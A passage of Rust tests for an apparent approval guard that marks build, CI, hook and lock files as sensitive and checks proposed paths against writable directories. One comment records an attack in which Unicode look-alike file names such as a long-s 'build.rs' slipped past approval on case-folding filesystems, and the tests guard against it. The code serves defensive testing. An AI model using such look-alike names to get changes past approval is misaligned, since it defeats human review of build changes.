        assert_eq!(attack9.len(), 31);
        let families = [
            "configure.in",
            "Makefile.win",
            "rules.mk",
            "sub/CMakeLists.txt",
            "settings.gradle.kts",
            "build.gradle",
            "project/build.properties",
            "mix.lock",
            "Package.resolved",
            "build.zig.zon",
            "a.fsproj",
            "a.vbproj",
            "a.sln",
            "Directory.Build.targets",
            "Directory.Packages.props",
            "NuGet.Config",
            "global.json",
            "composer.lock",
            "pnpm-workspace.yaml",
            ".yarn/plugins/p.cjs",
            "lefthook-local.yml",
            ".lefthook.yml",
            ".husky/pre-push",
            ".buildkite/hooks/pre-command",
            ".drone.star",
            ".appveyor.yml",
            ".woodpecker/build.yml",
            "cloudbuild.yml",
            "buildspec-prod.yml",
            "docker-compose.override.yaml",
            "compose.yml",
            "compose.dev.yaml",
            "Containerfile",
            "Dockerfile",
            "Taskfile.dist.yaml",
            "mise.toml",
            ".tool-versions",
            "flake.lock",
            "shell.nix",
            "default.nix",
            ".github/CODEOWNERS",
            "docs/CODEOWNERS",
            "SConscript",
            ".gitlab-ci.yml",
            "Jenkinsfile",
            "Earthfile",
            "Tiltfile",
            ".cirrus.yml",
            ".semaphore/semaphore.yml",
            "codemagic.yaml",
            "Vagrantfile",
            "deno.json",
            "bunfig.toml",
        ];
        for p in attack9.iter().chain(families.iter()) {
            assert!(defaults(p), "`{p}` is not sensitive by default");
        }
        for p in ["src/lib.rs", "docs/configure.md", "src/configuration.rs", "docs/build.md", "src/compose.rs"] {
            assert!(!defaults(p), "`{p}` is sensitive by default");
        }
    }

    /// attack9 S1: `build.rſ` (long s), `package.jſon` and `Makeﬁle` (the fi ligature) were applied unapproved;
    /// a case-insensitive filesystem that folds (ext4/tmpfs casefold, NTFS, APFS) opens them as `build.rs`,
    /// `package.json`, `makefile`. Globs match with Unicode compatibility caseless folding (ADR-470).
    #[test]
    fn sensitive_globs_match_unicode_case_and_compatibility_variants() {
        let defaults = |p: &str| DEFAULT_SENSITIVE.iter().any(|d| glob_match(d, p));
        for p in [
            "build.r\u{17F}",
            "src/build.r\u{17F}",
            "package.j\u{17F}on",
            "Make\u{FB01}le",
            "MAKE\u{FB01}LE",
            "\u{212A}.key",
            "Cargo.tom\u{217C}",
            "\u{FF2D}akefile",
        ] {
            assert!(defaults(p), "`{}` is not sensitive by default", p.escape_debug());
        }
        assert!(glob_match("stra\u{DF}e.txt", "STRASSE.TXT"));
        assert!(glob_match("caf\u{E9}?", "cafe\u{301}s"), "one composed character for `?`");
    }

    #[test]
    fn the_default_sensitive_list_covers_lock_files_and_test_runner_configuration() {
        let defaults = |p: &str| DEFAULT_SENSITIVE.iter().any(|d| glob_match(d, p));
        for p in [
            "Cargo.lock",
            "crates/x/Cargo.lock",
            "pytest.ini",
            "setup.cfg",
            "tox.ini",
            "noxfile.py",
            "conftest.py",
            "tests/unit/conftest.py",
            ".pre-commit-config.yaml",
            ".pre-commit-config.yml",
            ".config/nextest.toml",
            "package-lock.json",
            "yarn.lock",
            "pnpm-lock.yaml",
            "poetry.lock",
            "uv.lock",
        ] {
            assert!(defaults(p), "`{p}` is not sensitive by default");
        }
        for p in ["src/lib.rs", "tests/test_a.py", "docs/setup.md", "config.toml"] {
            assert!(!defaults(p), "`{p}` is sensitive by default");
        }
    }

    /// F203: a path inside a directory the check may write (or the directory itself, or a parent of one as a
    /// file) is refused at propose: the executor could never confirm it as part of the revision.
    #[test]
    fn a_proposed_path_inside_a_writable_directory_is_refused() {
        let mut c = config();
        c.writable = vec!["target".into(), "build/out".into()];
        let mut s = Some(
            replay(
                &transition(
                    T,
                    None,
                    &TaskCommand::Create { command_id: "create".into(), config: c, workspace: Manifest::default() },
                    0,
                )
                .unwrap(),
            )
            .unwrap(),
        );
        for path in ["target/x.txt", "target", "TARGET/x.txt", "build/out/y.o", "build"] {
            refused(propose(0, &[(path, "x")]), &mut s, "writable_path", &["--writable"]);
        }
        run(propose(0, &[("build/x.rs", "x"), ("targets/a", "y")]), &mut s).unwrap();
    }

    /// F201: the model expects what the executor makes: a new file with `NEW_FILE_MODE`, an existing one keeping
    /// its mode, every missing parent directory with `NEW_DIR_MODE` — except the directories above a writable one,
    /// which the manifest leaves out.
    #[test]
    fn with_written_records_new_directories_and_keeps_modes() {
        let mut script = entry("run.sh", "old");
        script.mode = 0o755;
        let base = Manifest::new(vec![script]);
        let written = |p: &str| FileHash { path: p.into(), sha256: sha256_hex(b"new"), bytes: 3 };
        let m = base
            .with_written(&[written("run.sh"), written("src/a/b.rs"), written("build/x.rs")], &["build/out".into()]);
        let got: Vec<(&str, EntryKind, u32)> = m.files.iter().map(|e| (e.path.as_str(), e.kind, e.mode)).collect();
        assert_eq!(
            got,
            vec![
                ("build/x.rs", EntryKind::File, NEW_FILE_MODE),
                ("run.sh", EntryKind::File, 0o755),
                ("src", EntryKind::Dir, NEW_DIR_MODE),
                ("src/a", EntryKind::Dir, NEW_DIR_MODE),
                ("src/a/b.rs", EntryKind::File, NEW_FILE_MODE),
            ]
        );
        assert!(in_writable("build/out", &["build/out".into()]) && in_writable("build/out/x", &["build/out".into()]));
        assert!(!in_writable("build/outside", &["build/out".into()]) && above_writable("build", &["build/out".into()]));
    }
}
